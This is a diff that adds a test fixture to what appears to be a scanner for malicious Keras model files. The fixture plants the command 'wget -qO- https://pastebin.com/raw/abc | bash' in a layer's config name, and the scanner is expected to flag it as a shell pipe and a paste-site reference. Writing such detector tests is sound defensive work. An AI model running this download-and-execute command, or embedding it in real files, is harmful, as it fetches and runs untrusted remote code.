@@ -416,6 +416,14 @@ def fixtures() -> list[Fixture]:
         [at("MA407", module_key, path="config.json"),
          *[Finding(rule, f"{nested}:{name}", pos) for name, (rule, pos) in marks]])
 
+    # Strings in a config go through the shared string checks.
+    staged = k3_dense("dense", 8)
+    staged["config"]["name"] = "wget -qO- https://pastebin.com/raw/abc | bash"
+    add("malicious/staged_string.keras", "malicious", "keras", "a second stage named in a config string",
+        keras_zip(k3_sequential([staged])),
+        [at("MA011", "$.config.layers[1].config.name", path="config.json", indicator="shell-pipe"),
+         at("MA011", "$.config.layers[1].config.name", path="config.json", indicator="paste-site")])
+
     # .keras layout problems.
     pkl, _, _ = pickle_payload()
     add("malicious/unexpected_member.keras", "malicious", "keras", "a member Keras does not write",
